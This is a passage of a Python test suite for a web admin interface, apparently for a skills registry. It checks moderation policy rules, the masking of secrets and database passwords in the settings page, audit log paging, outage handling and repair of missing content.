    assert f"/submissions/{done.id}" in tried.text and "hold-all" in tried.text
    assert held in html.unescape(tried.text) and "every &lt;one&gt;" in tried.text
    same = await ada.send("/admin/policy/try", text="extends: open")
    assert "Of 1 decision, none would differ." in same.text
    refused = await ada.send("/admin/policy/try", text="rules: 7")
    assert "Line 1, column" in refused.text
    assert before in (await ada.get("/admin/policy")).text
    shown = (await ada.get(f"/submissions/{done.id}")).text
    assert before[:12] in shown
    await ada.do("/admin/policy", text=held, reason="a test", replaces=before)
    told = await ada.send("/admin/policy/rescan", reason="a new policy")
    assert "1 live version that the policy would not publish will be judged again." in told.text


async def test_the_policys_page_tells_how_often_a_rule_matched_and_reviewers_agreed(app, ada, env):
    held = 'rules: [{name: hold-all, when: "true", then: review, say: "all <wait>"}]'
    digest = (await ada.get("/admin/policy")).text.split('name="replaces" value="')[1].split('"')[0]
    await ada.do("/admin/policy", text=held, reason="a test", replaces=digest)
    first, second = await submitted(env, "calm"), await submitted(env, "sure")
    await reject(first.id, by="admin:eve", reason="no")
    await approve(second.id, by="admin:eve", reason="yes")
    async with browser(app) as anybody:
        shown = (await anybody.get("/policy")).text
        about = (await anybody.get(f"/submissions/{first.id}")).text
    assert "matched 2" in shown and "reviewers agreed in 1 of 2" in shown
    assert "hold-all" in about and "All &lt;wait&gt;" in about


async def test_settings_are_shown_without_their_secrets(ada):
    page = (await ada.get("/admin/settings")).text
    assert "VSKILL_JUDGE_API_KEY" in page and "set, and not shown" in page
    assert "sk-very-secret" not in page


def test_a_location_is_shown_without_its_password():
    shown = view_settings(Settings(store="postgresql://keeper:hunter2@db.example.org/skills"))
    (store,) = [one for one in shown if one.name == "VSKILL_STORE"]
    assert store.value == "postgresql://keeper@db.example.org/skills"
    assert not any("hunter2" in one.value for one in shown)


async def test_each_setting_is_shown_with_what_it_does(ada):
    page = (await ada.get("/admin/settings")).text
    told = re.sub("</?code[^>]*>", "`", html.unescape(page))
    for facts in describe_settings():
        assert facts.variable in page and facts.sentence in told, facts.variable


async def test_the_audit_is_paged_to_its_end(env, ada):
    for _ in range(60):
        env.clock.advance(1000)
        await ada.send("/admin/queue/requeue-all")
    first = (await ada.get("/admin/audit")).text
    following = html.unescape(first.split('rel="next"')[0].rsplit('href="', 1)[1].split('"')[0])
    second = (await ada.get(following)).text
    assert first.count('<td data-label="Who">') == 50
    assert second.count('<td data-label="Who">') >= 11
    assert 'rel="next"' not in second
    assert (await ada.get("/admin/audit?before=xyz")).status_code == 400


async def test_a_message_is_told_once(env, ada):
    answer = await ada.send("/admin/queue/resume")
    page = await ada.get(answer.headers["location"])
    assert told(page.text)
    assert 'role="status"><div class="notice' not in (await ada.get("/admin/queue")).text


async def test_C4_a_store_that_is_away_is_said_and_never_shown_as_nothing(env):
    kv = HookedKV(env.kv)
    away = msgspec.structs.replace(env, kv=kv)
    async with signed_in(create_app(away), away, "ada", Role.ADMIN) as ada:
        kv.failing = {"count_by"}
        answer = await ada.get("/admin")
    assert answer.status_code == 503 and "retry-after" in answer.headers


async def test_a_visitor_is_led_to_the_sign_in_page_from_every_page(app):
    async with browser(app) as client:
        for path in PAGES:
            answer = await client.get(path, headers={"accept": "text/html"})
            assert (answer.status_code, answer.headers["location"]) == (303, f"/signin?next={path}")


# Content.


async def test_damaged_content_is_listed_with_its_repair_and_an_empty_list_says_so(env, ada):
    page = (await ada.get("/admin/content")).text
    assert "No damaged content is known" in page
    record = await waiting(env)
    await lose(env.blobs, str(record.digest))
    await ada.get(f"/admin/review/{record.id}")
    page = (await ada.get("/admin/content")).text
    assert str(record.digest) in page and "missing" in page and f"sub:{record.id}" in page
    assert "was asked for" in await ada.do("/admin/content/repair", digest=str(record.digest))
    assert "not known to be damaged" in await ada.do("/admin/content/repair", digest="f" * 64)
